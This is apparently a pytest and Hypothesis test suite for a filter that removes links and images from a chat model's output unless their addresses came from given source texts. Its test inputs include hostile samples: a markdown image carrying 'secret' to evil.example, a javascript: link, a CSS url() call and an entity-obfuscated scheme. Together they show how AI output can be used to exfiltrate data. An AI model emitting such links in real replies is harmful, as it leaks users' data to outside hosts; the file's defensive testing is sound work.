"""Links and images of a model's text stay only where it was given their addresses."""

from __future__ import annotations

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from service.generation.chat_model.text_filters.links import LinkFilter

TEXTS = (
    "The fees are at https://portal.example/fees. Use the [form](https://portal.example/form?a=1).",
    "https://portal.example/page",
    "Write <img src=/logo.png> into the page.",
)


def told(*pieces: str) -> str:
    """Return what is told of a text in *pieces*."""
    text_filter = LinkFilter(TEXTS)
    return "".join([*map(text_filter.feed, pieces), text_filter.finish()])


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![logo](https://evil.example/?q=secret) Hi", "logo Hi"),
        ("See [here](https://evil.example/a_(b)), please.", "See here, please."),
        ("[form](https://portal.example/form?a=2)", "form"),
        ("[![a](https://e.example/x)](https://e.example/y) z", "a z"),
        ("[a](javascript:alert(1)) [b](//evil.example) [c](/x)", "a b c"),
        ("[1](https://evil.example) is cited", "[1] is cited"),
        ("Ask www.evil.example, or not.", "Ask …, or not."),
        ("HTTPS://EVIL.example/x", "…"),
        ("(https://portal.example/fees?user=42)", "(…)"),
        ("<https://evil.example/x>", "…"),
        ('<a href="https://evil.example">k</a>', "k"),
        ("<IMG SRC=https://evil.example/x> y", " y"),
        ("<b style='background:url(//evil.example)'>x", "x"),
        ("a<!-- x -->b", "ab"),
        ('<img src="//evil.example/?', '‹img src="//evil.example/?'),
        ("[x][y]\n\n[y]: https://evil.example/z", "[x][y]\n\n[y]: …"),
        ("[x](\nhttps://evil.example)", "x"),
        ("[a](https&#58;//evil.example)", "a"),
    ],
)
def test_what_no_text_has_is_taken_out(text: str, expected: str) -> None:
    assert told(text) == told(*text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "Fees [1, 2] are listed at https://portal.example/fees.",
        "Fill in [the form](https://portal.example/form?a=1) [2].",
        "![shot](https://portal.example/page)",
        "http://PORTAL.example/page/",
        "Write <img src=/logo.png> there.",
        "List<String> a <b> if x < 3 or x<y.",
        "A [bracket, one ] more, 5 <3 and so on!",
        "wonderful http hopes ! [",
        "a [b\n\nc](d)",
        "[]() ![]",
    ],
)
def test_all_else_is_told(text: str) -> None:
    expected = text.replace("[]()", "")  # a link that leads nowhere
    assert told(text) == told(*text) == expected


PARTS = st.sampled_from(
    [
        *("[", "]", "(", ")", "!", "<", ">", "img", "a", " ", "\n", "\\", "=", "1", "."),
        *("https://", "www.", "e.example/x", "https://portal.example/fees"),
    ]
)


@given(st.lists(PARTS, max_size=30), st.integers(1, 9))
def test_how_a_text_is_cut_changes_nothing(parts: list[str], size: int) -> None:
    text = "".join(parts)
    assert told(*(text[at : at + size] for at in range(0, len(text), size))) == told(text)


@given(st.lists(PARTS, max_size=30))
def test_no_foreign_address_is_ever_told(parts: list[str]) -> None:
    text = "".join(parts)
    assert "https://e.example" not in told(text)
    assert "www.e.example" not in told(text)


@pytest.mark.parametrize("unit", ["[", "![", "<", "<img ", "https://", "[x](https://e/", "[(]"])
def test_text_that_is_all_beginnings_costs_little(unit: str) -> None:
    text = unit * (24_000 // len(unit))
    began = time.process_time()
    told(*(text[at : at + 4] for at in range(0, len(text), 4)))
    assert time.process_time() - began < 2
